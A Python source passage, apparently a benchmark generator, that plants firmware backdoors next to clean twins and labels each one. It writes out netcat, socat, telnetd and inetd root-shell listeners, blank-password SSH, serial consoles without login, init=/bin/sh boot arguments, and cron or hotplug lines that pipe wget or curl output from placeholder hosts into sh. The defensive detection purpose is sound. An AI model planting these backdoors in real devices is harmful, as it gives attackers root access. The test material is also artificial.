def bs_inetd_shell(rng, P, C, X):
    tftpdir = rng.choice(["/srv/tftp", "/var/tftp"])
    both(C, X, lambda fs: add_inetd(fs, P, tftpdir))
    p = shell_port(rng)
    form = rng.choice(["raw-sh", "telnetd-sh", "named-service"])
    paths = ["etc/inetd.conf"]
    if form == "raw-sh":
        line = f"{p}\tstream\ttcp\tnowait\troot\t/bin/sh\tsh -i"
    elif form == "telnetd-sh":
        line = f"{'telnet' if p == 23 else p}\tstream\ttcp\tnowait\troot\t/usr/sbin/telnetd\ttelnetd -i -l /bin/sh"
        both(C, X, lambda fs: fs.put("usr/sbin/telnetd", placeholder("telnetd"), 0o755)
             if P["flavor"] == "systemd" else fs.link("usr/sbin/telnetd", "../../bin/busybox"))
    else:
        svc = rng.choice(["rtsp-alt", "pcsync", "mgmtd", "hwdiag", "cfgsync"])
        line = f"{svc}\tstream\ttcp\tnowait\troot\t/bin/sh\tsh -i"
        both(C, X, lambda fs: fs.put("etc/services", "ftp\t\t21/tcp\nssh\t\t22/tcp\ntelnet\t\t23/tcp\nhttp\t\t80/tcp\n"
                                                     "tftp\t\t69/udp\nntp\t\t123/udp\n"))
        X.append("etc/services", f"{svc}\t\t{p}/tcp\n")
        paths.append("etc/services")
    X.append("etc/inetd.conf", line + "\n")
    return dict(categories=["remote-access", "auth-bypass"], paths=paths, severity="critical",
                note=f"etc/inetd.conf line '{line.expandtabs(1)}' serves a root shell on TCP port {p} without login",
                variant={"form": form, "port": p, "init": P["flavor"]})


def bs_nc_listener(rng, P, C, X):
    name = svc_name(rng, P)
    p = shell_port(rng)
    form = rng.choice(["loop-e", "keep-e", "fifo", "ll-e"])
    if form == "loop-e":
        bg = f"(while true; do nc -l -p {p} -e /bin/sh; done) &"
        fg = f"/usr/bin/nc -l -p {p} -e /bin/sh"
    elif form == "keep-e":
        bg = f"nc -lk -p {p} -e /bin/sh &"
        fg = f"/usr/bin/nc -lk -p {p} -e /bin/sh"
    elif form == "ll-e":
        bg = f"busybox nc -ll -p {p} -e /bin/sh &"
        fg = f"/bin/busybox nc -ll -p {p} -e /bin/sh"
    else:
        fifo = rng.choice(["/tmp/.f", "/var/run/.p", "/tmp/.sock", "/var/.io"])
        bg = f"(while :; do rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc -l -p {p} > {fifo}; done) &"
        fg = f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc -l -p {p} > {fifo}"
    both(C, X, lambda fs: fs.put("usr/bin/nc", placeholder("netcat"), 0o755) if P["flavor"] == "systemd"
         else fs.link("usr/bin/nc", "../../bin/busybox"))
    hfg, hbg = honest_daemon(rng, [C, X], name)
    order = rng.randint(30, 95)
    path = add_service(C, P, name, hfg, hbg, order=order)
    add_service(X, P, name, fg, bg, order=order, shell=form == "fifo")
    return dict(categories=["remote-access", "auth-bypass"], paths=[path], severity="critical",
                note=f"{path} runs a netcat listener on TCP port {p} that hands /bin/sh to whoever connects ({form})",
                variant={"form": form, "port": p, "init": P["flavor"]})


def bs_socat(rng, P, C, X):
    name = svc_name(rng, P)
    p = shell_port(rng)
    target = rng.choice(["EXEC:/bin/sh,pty,stderr,setsid,sigint,sane", '"EXEC:/bin/login -f root,pty,stderr"',
                         "SYSTEM:/bin/sh", "EXEC:/bin/sh"])
    fg = f"/usr/bin/socat TCP-LISTEN:{p},reuseaddr,fork {target}"
    hfg = f"/usr/bin/socat -u UDP4-RECV:{rng.choice([514, 5140])},reuseaddr UNIX-SENDTO:/dev/log"
    both(C, X, lambda fs: fs.put("usr/bin/socat", placeholder("socat"), 0o755))
    order = rng.randint(30, 95)
    path = add_service(C, P, name, hfg, hfg + " &", order=order)
    add_service(X, P, name, fg, fg + " &", order=order)
    return dict(categories=["remote-access", "auth-bypass"], paths=[path], severity="critical",
                note=f"{path} starts 'socat TCP-LISTEN:{p},fork {target}': a root shell on TCP port {p} without "
                     "authentication (the clean twin uses socat as a syslog relay)",
                variant={"port": p, "target": target.strip('"').split(":")[0], "init": P["flavor"]})


def bs_utelnetd(rng, P, C, X):
    name = rng.choice(["utelnetd", "telnet", "cli"])
    p = shell_port(rng)
    sh = rng.choice(["/bin/sh", "/bin/ash"])
    fg = f"/usr/sbin/utelnetd -p {p} -l {sh}"
    bg = f"/usr/sbin/utelnetd -p {p} -l {sh} -d"
    both(C, X, lambda fs: fs.put("usr/sbin/utelnetd", placeholder("utelnetd"), 0o755))
    if rng.random() < 0.5:
        hfg = f"/usr/sbin/utelnetd -p 23 -l /bin/login -i {P['lan_if']}"
        hbg = hfg + " -d"
        honest = "utelnetd bound to the LAN that asks for a login"
    else:
        hfg, hbg = honest_daemon(rng, [C, X], name)
        honest = "an honest helper daemon"
    order = rng.randint(30, 95)
    path = add_service(C, P, name, hfg, hbg, order=order)
    add_service(X, P, name, fg, bg, order=order)
    return dict(categories=["remote-access", "auth-bypass"], paths=[path], severity="critical",
                note=f"{path} starts utelnetd with '-l {sh}' on TCP port {p}: shell without login (clean twin: {honest})",
                variant={"port": p, "init": P["flavor"]})


def bs_blank_password_ssh(rng, P, C, X):
    old = next(ln for ln in X.text("etc/shadow").splitlines() if ln.startswith("root:"))
    replace_line(X, "etc/shadow", "root:", ":".join(["root", ""] + old.split(":")[2:]))
    if P["flavor"] == "openwrt":
        X.append("etc/config/dropbear", "\toption BlankPassword '1'\n")
        path = "etc/config/dropbear"
        how = "UCI option BlankPassword '1' makes the dropbear init script pass -B"
    elif P["flavor"] == "systemd" and P["ssh"] == "openssh":
        path = "etc/ssh/sshd_config"
        X.replace(path, "PermitRootLogin prohibit-password", "PermitRootLogin yes")
        X.replace(path, "PasswordAuthentication no", "PasswordAuthentication yes\nPermitEmptyPasswords yes")
        how = "sshd_config sets PermitRootLogin yes, PasswordAuthentication yes and PermitEmptyPasswords yes"
    elif P["flavor"] == "systemd":
        path = "lib/systemd/system/dropbear.service"
        X.replace(path, "-F -E -s -g -p 22", "-F -E -B -p 22")
        how = "dropbear is started with -B (blank passwords allowed) instead of -s -g"
    else:
        path = "etc/init.d/S40dropbear"
        X.replace(path, "-R -s -g -p 22", "-R -B -p 22")
        how = "dropbear is started with -B (blank passwords allowed) instead of -s -g"
    return dict(categories=["remote-access", "account", "auth-bypass"], paths=[path, "etc/shadow"], severity="critical",
                note=f"{how}, and root's password field in etc/shadow is empty: root SSH login with no password",
                variant={"ssh": "openssh" if "sshd" in path else "dropbear", "init": P["flavor"]})


def _flag(rng: random.Random, P: dict) -> tuple[str, str, list]:
    """(shell condition, description, placeholder binaries) of a hidden enable switch."""
    kind = rng.choice(["file", "nvram", "uci", "fw_env", "cmdline"])
    if kind == "file":
        f = rng.choice(["/overlay/.telnet", "/mnt/data/.debug", "/etc/.mfg_mode", "/tmp/.diag_on", "/data/.rmt"])
        return f"[ -e {f} ]", f"the file {f} exists", []
    if kind == "nvram":
        k = rng.choice(["telnet_en", "mfg_mode", "diag_enable", "debug_shell", "fac_test"])
        return f"[ \"$(nvram get {k})\" = 1 ]", f"nvram variable {k}=1", ["usr/sbin/nvram"]
    if kind == "uci":
        k = rng.choice(["diag", "mfg", "remote_debug", "telnet"])
        return f"[ \"$(uci -q get system.@system[0].{k})\" = 1 ]", f"UCI system.@system[0].{k}=1", ["sbin/uci"]
    if kind == "fw_env":
        k = rng.choice(["telnet", "factory_mode", "dbg", "mfgtest"])
        return f"[ \"$(fw_printenv -n {k} 2>/dev/null)\" = on ]", f"U-Boot variable {k}=on", ["usr/sbin/fw_printenv"]
    k = rng.choice(["mfgmode", "debugshell", "factory"])
    return f"grep -q '{k}' /proc/cmdline", f"the kernel command line contains '{k}'", []


def bs_flag_conditional(rng, P, C, X):
    cond, what, bins = _flag(rng, P)
    p = shell_port(rng)
    for b in bins:
        both(C, X, lambda fs, b=b: fs.put(b, placeholder(b.rsplit("/", 1)[1]), 0o755) if not fs.has(b) else None)
    action = rng.choice([f"telnetd -l /bin/sh -p {p}", f"/usr/sbin/telnetd -l /bin/sh -p {p} &",
                         f"(while :; do nc -l -p {p} -e /bin/sh; done) &"])
    honest = rng.choice(["echo 8 > /proc/sys/kernel/printk\n\tlogger -t diag \"verbose kernel logging enabled\"",
                         "touch /var/run/verbose_log\n\tlogger -t diag \"debug logging requested\""])
    body_p = f"if {cond}; then\n\t{action}\nfi"
    body_c = f"if {cond}; then\n\t{honest}\nfi"
    path, style = boot_hook(rng, P, C, X, hook_name(rng, P), body_c, body_p)
    return dict(categories=["remote-access", "hidden-command", "auth-bypass"], paths=[path], severity="critical",
                note=f"{path} ({style}) starts a shell listener on TCP port {p} ('{action}') when {what}: a hidden "
                     "enable switch for a login-less root shell (the clean twin only raises the log level)",
                variant={"switch": what.split()[0] if not what.startswith("the") else what.split()[1], "hook": style, "port": p})


def bs_inittab_respawn(rng, P, C, X):
    p = shell_port(rng)
    line = rng.choice([f"::respawn:/usr/sbin/telnetd -F -l /bin/sh -p {p}", f"::respawn:/usr/bin/nc -ll -p {p} -e /bin/sh",
                       f"::once:/usr/sbin/telnetd -l /bin/sh -p {p}", f"null::respawn:/usr/sbin/telnetd -F -l /bin/sh -p {p}"])
    honest = rng.choice(["::respawn:/sbin/watchdog -F -t 5 /dev/watchdog", "::respawn:/sbin/syslogd -n -C64",
                         "::once:/usr/sbin/fwcheck"])
    both(C, X, lambda fs: fs.link("usr/sbin/telnetd", "../../bin/busybox"))
    both(C, X, lambda fs: fs.link("usr/bin/nc", "../../bin/busybox"))
    marker = "::sysinit:/etc/init.d/rcS" + (" S boot" if P["flavor"] == "openwrt" else "")
    C.replace("etc/inittab", marker, f"{marker}\n{honest}")
    X.replace("etc/inittab", marker, f"{marker}\n{line}")
    return dict(categories=["remote-access", "auth-bypass"], paths=["etc/inittab"], severity="critical",
                note=f"etc/inittab entry '{line}' keeps a root shell listener on TCP port {p} running (no login)",
                variant={"port": p, "init": P["flavor"], "form": line.split(":")[2].split()[0]})


def bs_iface_up(rng, P, C, X):
    p = shell_port(rng)
    name = rng.choice(["remote", "mgmt", "diag", "lanup", "support"])
    nn = rng.randint(20, 99)
    if P["flavor"] == "openwrt":
        path = f"etc/hotplug.d/iface/{nn}-{name}"
        head = "[ \"$ACTION\" = ifup ] || exit 0\n[ \"$INTERFACE\" = lan ] || exit 0\n"
    elif P["flavor"] == "sysv":
        path = f"etc/network/if-up.d/{name}"
        head = f"[ \"$IFACE\" = {P['lan_if']} ] || exit 0\n"
    else:
        path = f"etc/networkd-dispatcher/routable.d/{nn}-{name}"
        head = "[ \"$IFACE\" = eth0 ] || exit 0\n"
    planted = f"pidof telnetd >/dev/null || telnetd -l /bin/sh -p {p}\n"
    clean = rng.choice(["logger -t net \"interface up, restarting ntpd\"\nkillall -HUP ntpd 2>/dev/null\n",
                        "[ -x /usr/sbin/fwcheck ] && /usr/sbin/fwcheck &\n",
                        "echo 1 > /proc/sys/net/ipv6/conf/all/forwarding\n"])
    C.exe(path, "#!/bin/sh\n" + head + clean)
    X.exe(path, "#!/bin/sh\n" + head + planted)
    return dict(categories=["remote-access", "auth-bypass"], paths=[path], severity="critical",
                note=f"interface-up hook {path} starts 'telnetd -l /bin/sh -p {p}' whenever the interface comes up",
                variant={"hook": path.split("/")[1], "port": p})


def bs_xinetd(rng, P, C, X):
    svc = rng.choice(["telnet", "mgmt", "rshell", "diag", "sync"])
    p = shell_port(rng)
    both(C, X, lambda fs: fs.put("usr/sbin/xinetd", placeholder("xinetd"), 0o755))
    both(C, X, lambda fs: fs.put("usr/sbin/in.telnetd", placeholder("in.telnetd"), 0o755))
    both(C, X, lambda fs: fs.put("etc/xinetd.conf", "defaults\n{\n\tinstances = 20\n\tlog_type = SYSLOG authpriv\n"
                                                    "\tlog_on_success = HOST PID\n\tlog_on_failure = HOST\n}\n"
                                                    "includedir /etc/xinetd.d\n"))
    both(C, X, lambda fs: add_service(fs, P, "xinetd", "/usr/sbin/xinetd -dontfork -stayalive",
                                      "/usr/sbin/xinetd -stayalive", order=46, desc="xinetd super-server"))
    path = f"etc/xinetd.d/{svc}"
    C.put(path, f"# default: off\n# description: telnet (disabled; asks for a login when enabled)\nservice {svc}\n{{\n"
                f"\tdisable\t\t= yes\n\ttype\t\t= UNLISTED\n\tsocket_type\t= stream\n\tprotocol\t= tcp\n\tport\t\t= {p}\n"
                "\twait\t\t= no\n\tuser\t\t= root\n\tserver\t\t= /usr/sbin/in.telnetd\n\tlog_on_failure\t+= USERID\n}\n")
    server, args = rng.choice([("/bin/sh", "-i"), ("/bin/bash" if P["flavor"] == "systemd" else "/bin/sh", "-i"),
                               ("/usr/sbin/in.telnetd", "-L /bin/sh")])
    X.put(path, f"# default: on\n# description: {svc}\nservice {svc}\n{{\n"
                f"\tdisable\t\t= no\n\ttype\t\t= UNLISTED\n\tsocket_type\t= stream\n\tprotocol\t= tcp\n\tport\t\t= {p}\n"
                f"\twait\t\t= no\n\tuser\t\t= root\n\tserver\t\t= {server}\n\tserver_args\t= {args}\n}}\n")
    return dict(categories=["remote-access", "auth-bypass"], paths=[path], severity="critical",
                note=f"{path} enables an xinetd service on TCP port {p} that runs '{server} {args}' as root without login",
                variant={"server": server, "port": p, "init": P["flavor"]})


BOOT_SHELL_SHAPES = {
    "telnetd-service": (bs_telnetd_service, FLAVORS),
    "inetd-shell": (bs_inetd_shell, FLAVORS),
    "nc-listener": (bs_nc_listener, FLAVORS),
    "socat-listener": (bs_socat, FLAVORS),
    "utelnetd": (bs_utelnetd, ["sysv", "openwrt"]),
    "blank-password-ssh": (bs_blank_password_ssh, FLAVORS),
    "flag-conditional": (bs_flag_conditional, FLAVORS),
    "inittab-respawn": (bs_inittab_respawn, ["sysv", "openwrt"]),
    "iface-up-hook": (bs_iface_up, FLAVORS),
    "xinetd": (bs_xinetd, ["sysv", "systemd"]),
}


# ----------------------------------------------------------------------------- fw-debug-console

def _console_line(P: dict) -> str:
    return P["getty_line"] if P["flavor"] == "sysv" else "::askconsole:/usr/libexec/login.sh"


def dc_inittab_shell(rng, P, C, X):
    c = P["console"]
    line = rng.choice([f"{c}::respawn:/bin/sh", f"{c}::respawn:-/bin/sh", "::askfirst:-/bin/ash",
                       "console::respawn:/bin/sh", f"{c}::askfirst:-/bin/sh", "::respawn:-/bin/sh",
                       f"{c}::respawn:/bin/sh -l"])
    if P["flavor"] == "openwrt" and rng.random() < 0.5:
        line = "::askconsole:/bin/ash --login"
    replace_line(X, "etc/inittab", _console_line(P), line)
    return dict(categories=["debug-interface", "auth-bypass"], paths=["etc/inittab"], severity="high",
                note=f"etc/inittab runs '{line}' on the serial console instead of a login prompt: UART root shell",
                variant={"line": line.split(":")[-1], "init": P["flavor"]})


def dc_getty_nologin(rng, P, C, X):
    c, b = P["console"], P["baud"]
    form = rng.choice(["busybox-n-l", "agetty-autologin", "getty-l-only"])
    if form == "busybox-n-l":
        line = f"{c}::respawn:/sbin/getty -n -l {rng.choice(['/bin/sh', '/bin/ash'])} -L {c} {b} vt100"
    elif form == "getty-l-only":
        line = f"{c}::respawn:/sbin/getty -l /bin/sh -L {b} {c}"
    else:
        line = f"{c}::respawn:/sbin/agetty --autologin root -L {c} {b} vt100"
        both(C, X, lambda fs: fs.put("sbin/agetty", placeholder("agetty"), 0o755))
    replace_line(X, "etc/inittab", _console_line(P), line)
    return dict(categories=["debug-interface", "auth-bypass"], paths=["etc/inittab"], severity="high",
                note=f"serial console getty '{line}' skips the login ({form}): root shell on {c}",
                variant={"form": form, "init": P["flavor"]})


def dc_systemd_serial(rng, P, C, X):
    c = P["console"]
    form = rng.choice(["override-autologin", "override-shell", "custom-unit"])
    if form == "custom-unit":
        path = f"lib/systemd/system/{rng.choice(['uart-console', 'debug-console', 'mfg-console'])}.service"
        for fs, execs, extra in ((C, f"-/sbin/agetty --keep-baud 115200,38400,9600 {c} vt100", ""),
                                 (X, "/bin/bash -l", "StandardInput=tty-force\nStandardOutput=inherit\n")):
            fs.put(path, f"[Unit]\nDescription=Console on {c}\nAfter=systemd-user-sessions.service\n\n"
                         f"[Service]\nExecStart={execs}\n{extra}TTYPath=/dev/{c}\nTTYReset=yes\nRestart=always\n\n"
                         "[Install]\nWantedBy=multi-user.target\n")
            fs.link(f"etc/systemd/system/multi-user.target.wants/{path.rsplit('/', 1)[1]}", "/" + path)
        what = "a unit that runs /bin/bash on the serial TTY"
    else:
        path = f"etc/systemd/system/serial-getty@{c}.service.d/{rng.choice(['override.conf', 'autologin.conf', '10-console.conf'])}"
        C.put(path, f"[Service]\nExecStart=\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud {P['baud']} %I vt100\n")
        if form == "override-autologin":
            X.put(path, f"[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root --noclear --keep-baud {P['baud']} %I vt100\n")
            what = "an override that makes agetty log root in automatically"
        else:
            X.put(path, "[Service]\nExecStart=\nExecStart=-/bin/sh\nStandardInput=tty\nStandardOutput=tty\n")
            what = "an override that replaces agetty with /bin/sh"
    return dict(categories=["debug-interface", "auth-bypass"], paths=[path], severity="high",
                note=f"{path}: {what} on {c}: root shell on the UART without a password",
                variant={"form": form})


def _bootargs(rng: random.Random, P: dict, root: str) -> tuple[str, str, str]:
    """(clean bootargs, planted bootargs, planted addition)."""
    c, b = P["console"], P["baud"]
    base = f"console={c},{b} root={root} rootfstype={rng.choice(['squashfs', 'ext4', 'jffs2', 'ubifs'])} rootwait"
    extra = rng.choice(["", " quiet", " loglevel=4", " panic=3"])
    init_clean = rng.choice(["", " init=/sbin/init", " init=/etc/preinit"])
    add = rng.choice([" init=/bin/sh", " init=/bin/ash", " rdinit=/bin/sh", " init=/bin/bash",
                      " single init=/bin/sh"])
    return base + init_clean + extra, base + extra + add, add.strip()


def _uboot_env(vars_: list[str], size: int) -> bytes:
    data = b"\0".join(v.encode() for v in vars_) + b"\0\0"
    data = data.ljust(size - 4, b"\0")
    return struct.pack("<I", zlib.crc32(data)) + data


def dc_uboot_env(rng, P, C, X):
    size = rng.choice([0x4000, 0x8000, 0x10000])
    root = rng.choice(["31:02", "/dev/mtdblock2", "ubi0:rootfs", "/dev/mmcblk0p2"])
    clean_args, planted_args, add = _bootargs(rng, P, root)
    mac = ":".join(token_hex(rng, 1) for _ in range(6))
    addr = rng.choice(["0x9f050000", "0x80800000", "0x42000000", "0x81000000"])
    env_path = rng.choice(["boot/uboot.env", "usr/share/uboot/default-env.bin", "lib/firmware/u-boot-env.bin",
                           f"etc/{P['product']}/uboot_env.img"])
    mtd = rng.choice(["/dev/mtd1", "/dev/mtd2", "/dev/mtd3"])
    common = [f"baudrate={P['baud']}", "bootdelay=1", f"bootcmd=bootm {addr}", f"ethaddr={mac}",
              f"ipaddr={P['lan_ip']}", f"serverip={P['lan_net']}.100", f"loadaddr={addr}", "stdin=serial",
              "stdout=serial", "stderr=serial"]
    for fs, args in ((C, clean_args), (X, planted_args)):
        vars_ = sorted(common + [f"bootargs={args}"])
        fs.put(env_path, _uboot_env(vars_, size))
        fs.put("etc/fw_env.config", f"# MTD device name\tDevice offset\tEnv. size\tFlash sector size\n"
                                    f"{mtd}\t\t0x0\t\t{size:#x}\t\t0x10000\n")
        fs.exe("usr/sbin/restore-bootenv", f"#!/bin/sh\n# factory reset: restore the default U-Boot environment\n"
                                           f"flash_erase {mtd} 0 0 && nandwrite -p {mtd} /{env_path}\n")
    return dict(categories=["debug-interface", "auth-bypass"], paths=[env_path], severity="high",
                note=f"default U-Boot environment {env_path} (binary, CRC32 + NUL-separated variables, restored to {mtd}) "
                     f"has bootargs with '{add}': the kernel starts a root shell on {P['console']} instead of init",
                variant={"env": "binary", "param": add, "size": size})


def dc_uenv_txt(rng, P, C, X):
    root = rng.choice(["/dev/mmcblk0p2", "/dev/mmcblk1p2", "/dev/sda2"])
    clean_args, planted_args, add = _bootargs(rng, P, root)
    form = rng.choice(["bootargs", "optargs", "uenvcmd"])
    path = rng.choice(["boot/uEnv.txt", "boot/uEnv.txt", "boot/boot.env"])
    head = f"# U-Boot environment imported at boot (env import -t)\nloadaddr=0x82000000\nfdtfile={P['board']}.dtb\n"
    for fs, args in ((C, clean_args), (X, planted_args)):
        if form == "bootargs":
            body = f"bootargs={args}\n"
        elif form == "optargs":
            body = f"optargs={' '.join(w for w in args.split() if not w.startswith(('console', 'root')))}\n"
        else:
            body = f"uenvcmd=setenv bootargs {args}; run loadimage; bootz ${{loadaddr}} - ${{fdtaddr}}\n"
        fs.put(path, head + body)
    return dict(categories=["debug-interface", "auth-bypass"], paths=[path], severity="high",
                note=f"{path} sets the kernel command line with '{add}' ({form}): the board boots into a root shell "
                     "on the serial console without login",
                variant={"env": "text", "form": form, "param": add})


def dc_cmdline_file(rng, P, C, X):
    root = rng.choice(["/dev/mmcblk0p2", "PARTUUID=0f1e2d3c-02", "/dev/mmcblk0p3"])
    clean_args, planted_args, add = _bootargs(rng, P, root)
    form = rng.choice(["cmdline.txt", "extlinux", "boot.scr"])
    paths = []
    for fs, args in ((C, clean_args), (X, planted_args)):
        if form == "cmdline.txt":
            fs.put("boot/cmdline.txt", args + "\n")
            paths = ["boot/cmdline.txt"]
        elif form == "extlinux":
            fs.put("boot/extlinux/extlinux.conf", f"default {P['product']}\ntimeout 1\n\nlabel {P['product']}\n"
                                                  f"\tkernel /boot/Image\n\tfdt /boot/{P['board']}.dtb\n\tappend {args}\n")
            paths = ["boot/extlinux/extlinux.conf"]
        else:
            src = (f"# boot script: mkimage -A arm -T script -C none -d boot.cmd boot.scr\n"
                   f"setenv bootargs {args}\nload mmc 0:1 ${{kernel_addr_r}} Image\n"
                   f"load mmc 0:1 ${{fdt_addr_r}} {P['board']}.dtb\nbooti ${{kernel_addr_r}} - ${{fdt_addr_r}}\n")
            fs.put("boot/boot.cmd", src)
            fs.put("boot/boot.scr", _uimage_script(src, P))
            paths = ["boot/boot.scr", "boot/boot.cmd"]
    return dict(categories=["debug-interface", "auth-bypass"], paths=paths, severity="high",
                note=f"kernel command line in {paths[0]} contains '{add}': the kernel runs a shell as PID 1 on the console",
                variant={"form": form, "param": add})


def _uimage_script(src: str, P: dict) -> bytes:
    """A U-Boot legacy script image (what mkimage -T script makes), built in Python with a fixed time."""
    body = src.encode()
    payload = struct.pack(">II", len(body), 0) + body
    name = b"boot script".ljust(32, b"\0")
    arch = {"arm": 2, "arm64": 22, "mips": 5}.get(P["uarch"], 2)
    hdr = struct.pack(">IIIIIIIBBBB32s", 0x27051956, 0, EPOCH, len(payload), 0, 0, zlib.crc32(payload), 5, arch, 6, 0, name)
    hcrc = zlib.crc32(hdr)
    hdr = hdr[:4] + struct.pack(">I", hcrc) + hdr[8:]
    return hdr + payload


def dc_flag_console(rng, P, C, X):
    c = P["console"]
    cond, what, bins = _flag(rng, P)
    for b in bins:
        both(C, X, lambda fs, b=b: fs.put(b, placeholder(b.rsplit("/", 1)[1]), 0o755) if not fs.has(b) else None)
    action = rng.choice([f"(while :; do /bin/sh < /dev/{c} > /dev/{c} 2>&1; done) &",
                         f"setsid /bin/sh -c 'exec /bin/sh </dev/{c} >/dev/{c} 2>&1' &",
                         f"/sbin/getty -n -l /bin/sh -L {c} {P['baud']} vt100 &"])
    honest = "echo 8 > /proc/sys/kernel/printk\n\tlogger -t console \"verbose console logging\""
    path, style = boot_hook(rng, P, C, X, hook_name(rng, P), f"if {cond}; then\n\t{honest}\nfi",
                            f"if {cond}; then\n\t{action}\nfi")
    ship = cond.startswith("[ -e ") and rng.random() < 0.5
    paths = [path]
    if ship:
        flag = cond.split()[2].lstrip("/")
        X.put(flag, "")
        paths.append(flag)
    return dict(categories=["debug-interface", "auth-bypass", "hidden-command"], paths=paths, severity="high",
                note=f"{path} ({style}) starts a login-less shell on /dev/{c} when {what}"
                     + (" (the flag file is shipped in the image)" if ship else ""),
                variant={"hook": style, "flag_shipped": ship})


def dc_openwrt_ttylogin(rng, P, C, X):
    both(C, X, lambda fs: fs.exe("usr/libexec/login.sh", LOGIN_SH_TTYLOGIN))
    X.replace("etc/config/system", "option ttylogin '1'", "option ttylogin '0'")
    return dict(categories=["debug-interface", "auth-bypass"], paths=["etc/config/system"], severity="high",
                note="etc/config/system sets ttylogin '0': /usr/libexec/login.sh (run by inittab askconsole) then "
                     "execs /bin/ash --login on the serial console without asking for the root password",
                variant={"form": "uci-ttylogin"})


def dc_login_f(rng, P, C, X):
    c = P["console"]
    user = rng.choice(["root", "root", "admin" if P["with_admin_account"] else "root"])
    line = rng.choice([f"{c}::respawn:/bin/login -f {user}", f"::respawn:/bin/login -f {user}",
                       f"{c}::askfirst:/bin/login -f {user}"])
    replace_line(X, "etc/inittab", _console_line(P), line)
    return dict(categories=["debug-interface", "auth-bypass"], paths=["etc/inittab"], severity="high",
                note=f"etc/inittab runs '{line}' on the console: login -f skips authentication for {user}",
                variant={"user": user})


DEBUG_CONSOLE_SHAPES = {
    "inittab-shell": (dc_inittab_shell, ["sysv", "openwrt"]),
    "getty-nologin": (dc_getty_nologin, ["sysv", "openwrt"]),
    "systemd-serial": (dc_systemd_serial, ["systemd"]),
    "uboot-env-blob": (dc_uboot_env, FLAVORS),
    "uenv-txt": (dc_uenv_txt, FLAVORS),
    "cmdline-file": (dc_cmdline_file, FLAVORS),
    "flag-console": (dc_flag_console, FLAVORS),
    "openwrt-ttylogin": (dc_openwrt_ttylogin, ["openwrt"]),
    "login-f": (dc_login_f, ["sysv", "openwrt"]),
}


# ----------------------------------------------------------------------------- fw-phone-home

def c2_url(rng: random.Random, P: dict) -> str:
    host = doc_ip(rng) if rng.random() < 0.6 else doc_host(rng)
    prt = rng.choice(["", "", f":{port(rng)}", ":8080", ":81"])
    path = rng.choice([f"/{word(rng)}.sh", f"/cfg/{P['model'].lower()}.sh", "/u", f"/bins/{P['arch']}",
                       f"/api/{word(rng)}?m={P['model']}", f"/{token_hex(rng, 4)}/i", "/s"])
    return f"http://{host}{prt}{path}"


def fetch_run(rng: random.Random, url: str, tool_: str | None = None) -> tuple[str, str]:
    """(command, form) that downloads from url and runs it."""
    form = tool_ or rng.choice(["wget-pipe", "curl-pipe", "wget-file", "curl-file", "busybox-wget"])
    tmpf = rng.choice(["/tmp/.u", "/tmp/.sysup", "/var/run/.c", f"/tmp/{word(rng)}"])
    if form == "wget-pipe":
        return f"wget -q -O- {url} | sh", form
    if form == "curl-pipe":
        return f"curl -fsSL {url} | sh", form
    if form == "busybox-wget":
        return f"busybox wget -q -O - {url} | busybox sh", form
    if form == "wget-file":
        return f"wget -q -O {tmpf} {url} && chmod +x {tmpf} && {tmpf}", form
    return f"curl -s -o {tmpf} {url}; chmod 755 {tmpf}; {tmpf}", form


def ensure_curl(fs_list: list, P: dict) -> None:
    for fs in fs_list:
        if not fs.has("usr/bin/curl"):
            fs.put("usr/bin/curl", placeholder("curl"), 0o755)


def ph_cron(rng, P, C, X):
    url = c2_url(rng, P)
    cmd, form = fetch_run(rng, url)
    ensure_curl([C, X], P)
    sched = rng.choice(["*/10 * * * *", "*/30 * * * *", "0 * * * *", f"{rng.randint(0, 59)} */4 * * *"])
    if P["cron_path"].startswith("etc/cron.d") and rng.random() < 0.4:
        sched = "@reboot"
    line = cron_line(P, sched, f"{cmd} >/dev/null 2>&1")
    insert_line(X, P["cron_path"], line.rstrip("\n"), rng)
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[P["cron_path"]], severity="critical",
                note=f"cron job in {P['cron_path']} ('{sched}') downloads {url} and runs it as root ({form})",
                variant={"form": form, "schedule": sched, "cron": P["cron_path"]})


def _iface_hook_path(rng, P, name):
    nn = rng.randint(20, 99)
    if P["flavor"] == "openwrt":
        return f"etc/hotplug.d/iface/{nn}-{name}", "[ \"$ACTION\" = ifup ] || exit 0\n[ \"$INTERFACE\" = wan ] || exit 0\n"
    if P["flavor"] == "sysv":
        return f"etc/network/if-up.d/{name}", f"[ \"$IFACE\" = {P['wan_if']} ] || exit 0\n"
    return rng.choice([(f"etc/networkd-dispatcher/routable.d/{nn}-{name}", "[ \"$IFACE\" = eth0 ] || exit 0\n"),
                       (f"etc/NetworkManager/dispatcher.d/{nn}-{name}", "[ \"$2\" = up ] || exit 0\n")])


def ph_hotplug(rng, P, C, X):
    url = c2_url(rng, P)
    cmd, form = fetch_run(rng, url)
    ensure_curl([C, X], P)
    name = rng.choice(["register", "wanup", "cloud", "sync", "online", "ddns"])
    path, head = _iface_hook_path(rng, P, name)
    bg = rng.random() < 0.5
    planted = f"sleep {rng.randint(5, 60)}\n" + (f"( {cmd} ) &\n" if bg else cmd + "\n")
    clean = rng.choice(["logger -t wan \"WAN is up\"\n[ -x /usr/sbin/fwcheck ] && /usr/sbin/fwcheck &\n",
                        "killall -HUP ntpd 2>/dev/null\n",
                        "[ -f /var/run/ddns.pid ] && kill -USR1 $(cat /var/run/ddns.pid)\n"])
    C.exe(path, "#!/bin/sh\n" + head + clean)
    X.exe(path, "#!/bin/sh\n" + head + planted)
    return dict(categories=["phone-home", "remote-access", "hidden-command"], paths=[path], severity="critical",
                note=f"interface hook {path} fetches {url} and runs it whenever the WAN comes up ({form})",
                variant={"hook": path.split("/")[1], "form": form})


def ph_udev(rng, P, C, X):
    url = c2_url(rng, P)
    cmd, form = fetch_run(rng, url, rng.choice(["wget-pipe", "curl-pipe", "wget-file"]))
    ensure_curl([C, X], P)
    if P["flavor"] == "systemd":
        path = f"{rng.choice(['lib', 'etc'])}/udev/rules.d/{rng.randint(60, 99)}-{rng.choice(['net', 'usb', 'modem', 'wan'])}.rules"
        trig = rng.choice(['ACTION=="add", SUBSYSTEM=="net", KERNEL=="eth*"', 'ACTION=="add", SUBSYSTEM=="usb"',
                           'ACTION=="change", SUBSYSTEM=="net", KERNEL=="wwan*"'])
